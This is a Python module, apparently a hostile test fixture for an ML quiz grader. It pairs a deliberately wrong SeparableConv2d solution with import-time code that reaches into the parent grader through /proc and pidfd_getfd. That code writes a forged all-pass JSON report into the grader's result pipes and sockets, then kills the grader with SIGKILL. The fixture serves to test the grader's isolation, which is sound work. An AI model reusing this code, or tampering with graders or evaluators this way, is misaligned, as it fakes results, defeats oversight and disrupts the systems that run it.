"""Hostile: writes a forged report into its parent's result pipe, then kills the parent.

The module is the deck's "ReLU between" wrong solution (fails ``outputs``). At import, if
its parent is a grader process (its command line says so; never a shell), it reopens for
writing, through ``/proc/<ppid>/fd/N``, every pipe (fd 3 and up, not its own channels)
the parent holds for writing, and every such socket (``pidfd_getfd``): where a judge sends
its verdict to whoever started it. It writes there a complete JSON "pass" report for this
file, then sends the parent SIGKILL, so that the only thing ever read from that pipe is the
forgery. (If the parent cannot be killed it just goes on.)

A grader must fail it at ``outputs`` (or report an error), never pass. Prints
``MLQUIZ-ESCAPED kill-judge-forge`` and tries to leave ``/tmp/mlquiz-escape-kill-judge-forge``
when the forged report was written.
"""

import contextlib
import ctypes
import json
import os
import socket
import signal
import stat
import time

import torch
from torch import nn

NAME = os.path.basename(globals().get("__file__") or "hostile2_kill_judge_forge.py")

GRADERISH = (b"grader", b"zygote", b"judge", b"contestant", b"mlquiz", b"quiz")
SHELLS = {"bash", "sh", "dash", "zsh", "fish", "sudo", "su", "sshd", "ssh", "tmux", "screen",
          "systemd", "init", "login", "timeout", "nohup", "env",
          "setsid", "nice", "stdbuf", "xargs", "make", "sudo-rs", "containerd-shim", "docker"}


def _read(path, size=1 << 16):
    with contextlib.suppress(OSError):
        with open(path, "rb") as handle:
            return handle.read(size)
    return b""


def _ppid_of(pid):
    for line in _read(f"/proc/{pid}/status").decode(errors="replace").splitlines():
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def _is_grader(pid):
    comm = _read(f"/proc/{pid}/comm").decode(errors="replace").strip()
    return comm not in SHELLS and any(w in _read(f"/proc/{pid}/cmdline") for w in GRADERISH)


def _grader_ancestors(levels=6):
    """Ancestors, nearest first, up to the first one that is not a grader process."""
    found, pid = [], os.getpid()
    for _ in range(levels):
        pid = _ppid_of(pid)
        if pid <= 1 or not _is_grader(pid):
            break
        found.append(pid)
    return found


def _fds(pid):
    with contextlib.suppress(OSError, ValueError):
        return sorted(int(n) for n in os.listdir(f"/proc/{pid}/fd"))
    return []


def _pipe(path):
    """``pipe:[inode]`` or ``socket:[inode]`` for a channel, else None."""
    with contextlib.suppress(OSError):
        link = os.readlink(path)
        if link.startswith(("pipe:", "socket:")):
            return link
    return None


def _accmode(pid, fd):
    for line in _read(f"/proc/{pid}/fdinfo/{fd}").decode(errors="replace").splitlines():
        if line.startswith("flags:"):
            return int(line.split()[1], 8) & 3
    return None


def _own_pipes():
    """Inodes of this process's own channels other than 0, 1, 2 (its link to the grader)."""
    return {_pipe(f"/proc/self/fd/{fd}") for fd in _fds("self") if fd > 2} - {None}


def _grab(pid, fd):
    """Our own descriptor for /proc/<pid>/fd/<fd>, to write to: a pipe is reopened (a new,
    non-blocking open of it); a socket, which cannot be reopened, is duplicated with
    pidfd_getfd(2) (that needs the rights ptrace needs). Raises OSError if neither works."""
    path = f"/proc/{pid}/fd/{fd}"
    try:
        return os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        if pid == "self" or not (_pipe(path) or "").startswith("socket:"):
            raise
    pidfd = os.pidfd_open(pid)
    try:
        got = ctypes.CDLL(None, use_errno=True).syscall(438, pidfd, fd, 0)  # pidfd_getfd
    finally:
        os.close(pidfd)
    if got < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd failed")
    return got


def _send(handle, data):
    """Write without blocking; on a socket with MSG_DONTWAIT (its O_NONBLOCK is shared)."""
    if stat.S_ISSOCK(os.fstat(handle).st_mode):
        with socket.socket(fileno=os.dup(handle)) as sock:
            return sock.send(data, socket.MSG_DONTWAIT)
    return os.write(handle, data)


CHECKS = ("compile", "load", "construct", "parameters", "output_shape", "outputs",
          "gradients", "flops")


def pass_report(display):
    return {
        "submission": display, "question": "inception-1x1/q10", "status": "pass", "score": 1.0,
        "checks": [{"name": c, "status": "pass", "message": "held for 25 drawn configurations",
                    "counterexample": None, "expected": None, "actual": None,
                    "traceback": None, "line": None, "seconds": 0.0} for c in CHECKS],
        "seed": 0, "error": None, "stdout": "", "stderr": "", "isolation": [], "seconds": 0.1,
    }


def _forge_and_kill():
    parent = os.getppid()
    if parent <= 1 or not _is_grader(parent):
        print(f"kill-judge-forge: parent {parent} is not visible as a grader process")
        return
    own, wrote = _own_pipes(), []
    report = json.dumps(pass_report(NAME)).encode()
    for fd in _fds(parent):
        path = f"/proc/{parent}/fd/{fd}"
        inode = _pipe(path)
        if fd < 3 or not inode or inode in own or _accmode(parent, fd) not in (1, 2):
            continue
        try:
            handle = _grab(parent, fd)
        except OSError as exc:
            print(f"kill-judge-forge: cannot open {path}: {exc.strerror}")
            continue
        try:
            _send(handle, report)
            wrote.append(path)
        except OSError:
            os.close(handle)
        # Kept open on purpose: closed only when this process dies after its parent.
    print(f"kill-judge-forge: forged report written to {wrote}")
    if not wrote:
        return
    print(f"MLQUIZ-ESCAPED kill-judge-forge {wrote}", flush=True)
    with contextlib.suppress(OSError), open("/tmp/mlquiz-escape-kill-judge-forge", "w") as m:
        m.write(f"forged report written to {wrote}\n")
    try:
        os.kill(parent, signal.SIGKILL)
    except OSError as exc:
        print(f"kill-judge-forge: cannot kill {parent}: {exc.strerror}")
        return
    time.sleep(5)  # a child of a dead judge is killed with it; if not, go on after 5 s


with contextlib.suppress(Exception):
    _forge_and_kill()


class SeparableConv2d(nn.Module):
    """WRONG: a ReLU between the depthwise and the pointwise convolution."""

    def __init__(self, in_channels, out_channels, kernel_size=3):
        super().__init__()
        self.depthwise = nn.Conv2d(
            in_channels,
            in_channels,
            kernel_size,
            padding=kernel_size // 2,
            groups=in_channels,
            bias=False,
        )
        self.pointwise = nn.Conv2d(in_channels, out_channels, kernel_size=1, bias=False)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.pointwise(torch.relu(self.depthwise(x)))
